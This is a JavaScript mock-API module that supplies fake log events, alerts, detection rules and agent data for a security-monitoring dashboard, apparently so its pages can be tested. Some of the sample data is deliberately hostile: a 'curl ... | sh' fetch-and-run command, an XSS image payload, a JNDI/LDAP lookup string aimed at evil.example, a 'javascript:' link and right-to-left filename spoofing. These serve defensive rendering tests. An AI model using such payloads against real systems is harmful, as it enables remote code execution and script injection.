// Made-up answers of the API, for looking at the pages without a server. Some of them are hostile on purpose.

const MINUTE = 60_000
export const now = Date.now()
const iso = (ms) => new Date(ms).toISOString()
const hex = (n, seed) => [...Array(32)].map((_, i) => ((n * 31 + i * 7 + seed * 13 + ((n * i) % 11)) % 16).toString(16)).join('')

const HOSTS = ['API-Svr', 'BAM-Svr', 'DSS-Svr', 'ESB-Svr', 'IS-Svr', 'QuanTri-Svr', 'DichVu-Svr', 'LDAP-Svr', 'Oracle', 'Mysql']
const LINES = [
  (n) => [`Failed password for invalid user admin from 203.0.113.${n % 90} port ${40000 + (n % 9000)} ssh2`, 'sshd', { 'source.ip': `203.0.113.${n % 90}`, 'user.name': 'admin', 'event.action': 'ssh_login', 'event.outcome': 'failure' }],
  (n) => [`Accepted publickey for quantri from 10.10.${n % 4}.${n % 200} port 51022 ssh2: ED25519 SHA256:wVbq0`, 'sshd', { 'source.ip': `10.10.${n % 4}.${n % 200}`, 'user.name': 'quantri', 'event.action': 'ssh_login', 'event.outcome': 'success' }],
  (n) => [`10.20.0.${n % 60} - - "GET /lgsp/api/v2/hoso?id=${n} HTTP/1.1" 200 ${900 + n} "-" "okhttp/4.9.3"`, 'nginx', { 'source.ip': `10.20.0.${n % 60}`, 'http.response.status_code': 200, 'url.path': '/lgsp/api/v2/hoso' }],
  (n) => [`TID: [-1234] [] INFO {org.apache.synapse.mediators.builtin.LogMediator} - Gửi hồ sơ một cửa số ${n} tới Sở Tư pháp thành công`, 'wso2', { 'event.action': 'message_sent' }],
  () => ['normal \u001b[31mRED\u001b[0m text \u202egnp.exe\u202c <img src=x onerror=alert(1)> ${jndi:ldap://evil.example/a} \u0000\u0007\u200b end', 'app', { 'process.name': '\u202etxt.exe' }],
  (n) => [`type=EXECVE msg=audit(${n}.211:9912): argc=3 a0="sh" a1="-c" a2="curl -s http://198.51.100.9/x.sh | sh"`, 'auditd', { 'process.name': 'sh', 'process.command_line': 'sh -c curl -s http://198.51.100.9/x.sh | sh' }],
  () => [`very long ${'0123456789abcdef'.repeat(900)} end of line`, 'app', {}],
]

export function event(n) {
  const [message, service, fields] = LINES[n % LINES.length](n)
  const host = HOSTS[(n * 7) % HOSTS.length]
  return {
    id: hex(n, 1),
    time: iso(now - n * 4_133),
    received: iso(now - n * 4_133 + 412),
    class: 'log',
    logsource: { product: 'linux', services: [service], categories: [] },
    message,
    fields: { 'host.name': host, 'host.zone': 'dmz', 'canh.source': `agent-${host}`, 'log.file.path': `/var/log/${service}.log`, message, ...fields },
    attrs: { pid: 1200 + n, facility: 'auth', tags: ['a', 'b'], 'host.name': 'native', 'odd "name" \u202e': 'x' },
    raw: `<38>1 ${iso(now - n * 4_133)} ${host} ${service} - - - ${message}`,
    raw_len: message.length + 60,
    issues: n % 5 === 4 ? [{ kind: 'bad_time', detail: '31/02/2026 25:61' }, { kind: 'invalid_utf8', detail: 'byte 0xff at 12' }] : [],
    cut: false,
  }
}

const TITLES = [
  ['SSH brute force that succeeded', 'critical', ['attack.credential_access', 'attack.t1110.001', 'attack.initial_access', 'attack.t1078']],
  ['Web shell written below the document root of a web server', 'critical', ['attack.persistence', 'attack.t1505.003']],
  ['Credential dump from LDAP by a service account', 'high', ['attack.credential_access', 'attack.t1003.003']],
  ['DNS tunnel: many long random names below one domain', 'high', ['attack.exfiltration', 'attack.t1048.003', 'attack.command_and_control', 'attack.t1071.004']],
  ['Remote service created over SMB', 'medium', ['attack.lateral_movement', 'attack.t1021.002']],
  ['Sudo by an account for the first time', 'low', ['attack.privilege_escalation', 'attack.t1548.003']],
  ['Certificate of a service expires within 14 days', 'informational', ['canh.health']],
  ['Dò quét thư mục trên cổng dịch vụ công \u202e trực tuyến', 'medium', ['attack.reconnaissance', 'attack.t1595.003']],
]

export const alerts = Array.from({ length: 46 }, (_, n) => {
  const [title, level, tags] = TITLES[n % TITLES.length]
  const status = n % 9 === 7 ? 'closed' : n % 5 === 3 ? 'acknowledged' : 'open'
  const kind = ['host', 'source_ip', 'user', 'none'][n % 4]
  const value = { host: HOSTS[n % 10], source_ip: `203.0.113.${n + 3}`, user: 'svc_backup', none: '' }[kind]
  return {
    id: 1000 - n,
    rule_id: `5c8e2a5${n % 8}-1b7d-4f0e-9d0a-7c2f1a9b3e10`,
    title,
    level,
    tags,
    status,
    ...(status === 'closed' ? { reason: 'false_positive' } : {}),
    entity: { kind, value },
    host: HOSTS[n % 10],
    user: n % 2 ? 'admin' : undefined,
    source_ip: `203.0.113.${n + 3}`,
    count: 1 + ((n * 37) % 412),
    first_time: iso(now - (n + 2) * 11 * MINUTE),
    last_time: iso(now - n * 9 * MINUTE - 20_000),
    opened_at: iso(now - (n + 2) * 11 * MINUTE),
    updated_at: iso(now - n * 9 * MINUTE),
  }
})

export function alertDetail(alert) {
  const events = [event(0), event(7), event(14), event(4)]
  return {
    alert,
    rule: {
      id: alert.rule_id,
      hash: hex(3, 3),
      title: alert.title,
      description: 'Many failed passwords from one address and then one that is accepted, within ten minutes. Somebody has guessed the password of an account that may sign in from outside.',
      level: alert.level,
      tags: alert.tags,
      attack: [],
      false_positives: ['A user who has forgotten the new password', 'A monitoring system with an old password'],
      references: ['https://attack.mitre.org/techniques/T1110/001/', 'javascript:alert(1)'],
    },
    matches: [
      { selection: 'failed', field: 'message', modifiers: 'contains', pattern: 'Failed password', value: events[0].message, cut: false },
      { selection: 'failed', field: 'event.outcome', modifiers: '', pattern: 'failure', value: 'failure', cut: false },
      { selection: 'outside', field: 'source.ip', modifiers: 'cidr|not', pattern: '10.0.0.0/8', value: '203.0.113.7', cut: false },
      { selection: 'tool', field: 'CommandLine', modifiers: 'contains|all', pattern: 'curl', value: ['sh -c curl -s http://198.51.100.9/x.sh | sh', '\u202egnp.exe'], cut: false },
    ],
    findings: [{ id: hex(9, 9), time: alert.last_time, event_ids: events.map(({ id }) => id) }],
    event_ids: events.map(({ id }) => id),
    history: alert.status === 'open' ? [] : [
      { at: iso(now - 40 * MINUTE), who: 'quantri', status: 'acknowledged' },
      ...(alert.status === 'closed' ? [{ at: iso(now - 20 * MINUTE), who: 'quantri', status: 'closed', reason: 'false_positive', note: 'The scanner of the city network, known.\nTicket 4711.' }] : []),
    ],
  }
}

export const agents = {
  silent_after_s: 90,
  items: [
    ...HOSTS.map((host, n) => ({
      id: hex(n, 5), kind: 'agent', host, version: '0.1.0', first_seen: iso(now - 9 * 24 * 60 * MINUTE), last_seen: iso(now - (n === 6 ? 47 * MINUTE : n * 2_000)),
      status: n === 6 ? 'silent' : 'online', events: 91_233 * (n + 1), bytes: 33_000_111 * (n + 1), dropped: n === 3 ? [{ reason: 'spool_full', count: 1204 }] : [], spool_bytes: n === 6 ? 8_388_608 : 0,
    })),
    { id: 'syslog-udp 10.1.1.1', kind: 'syslog', first_seen: iso(now - 60 * MINUTE), last_seen: iso(now - 3_000), status: 'online', events: 22_111, bytes: 3_111_222, dropped: [] },
  ],
}

export const rules = {
  loaded_at: iso(now - 3 * 60 * MINUTE),
  items: Array.from({ length: 3_000 }, (_, n) => {
    const [title, level, tags] = TITLES[n % TITLES.length]
    return { id: `5c8e2a5${n % 8}-1b7d-4f0e-9d0a-${String(n).padStart(12, '0')}`, title: n < 8 ? title : `${title} (${n})`, level, tags, file: `linux/auth/rule_${n}.yml`, findings: n % 6 === 0 ? n : 0, kind: 'event', quiet: false, samples: 3, suppressed: 0, state: n % 11 === 3 ? 'needs_review' : 'enabled', ...(n % 6 === 0 && n ? { last_found: iso(now - n * MINUTE) } : {}) }
  }),
  errors: [
    { file: 'custom/dns.yml', line: 14, column: 9, message: 'unknown modifier `containss`; did you mean `contains`?' },
    { file: 'custom/http.yml', message: 'cannot read rule file' },
  ],
}

export function histogram(from, to, buckets, empty) {
  const start = Date.parse(from)
  const width = Math.max(1_000, Math.ceil((Date.parse(to) - start) / buckets / 1_000) * 1_000)
  const counts = Array.from({ length: Math.ceil((Date.parse(to) - start) / width) }, (_, n) => (empty ? 0 : Math.round(220 + 130 * Math.sin(n / 7) + ((n * 7919) % 90) + (n > 40 && n < 46 ? 900 : 0))))
  return { from, to, start: from, width_ms: width, counts, total: counts.reduce((a, b) => a + b, 0), outcome: { kind: 'complete' } }
}

export const fields = ['host.name', 'message', 'canh.source', 'host.zone', 'log.file.path', 'source.ip', 'user.name', 'event.action', 'event.outcome', 'http.response.status_code', 'url.path', 'process.name', 'process.command_line', 'pid', 'facility', 'tags', 'winlog.event_data.SubjectUserName', 'odd "name" \u202e']

export const top = (field) => ({
  field,
  with_field: 9_120,
  total: 12_000,
  outcome: { kind: field === 'pid' ? 'sampled' : 'complete' },
  items: field === 'host.name' ? HOSTS.map((value, n) => ({ value, count: 2_000 - n * 190 })) : [{ value: 'admin', count: 5_200 }, { value: 'quan tri "x"', count: 1_800 }, { value: '\u202egnp.exe', count: 90 }],
})
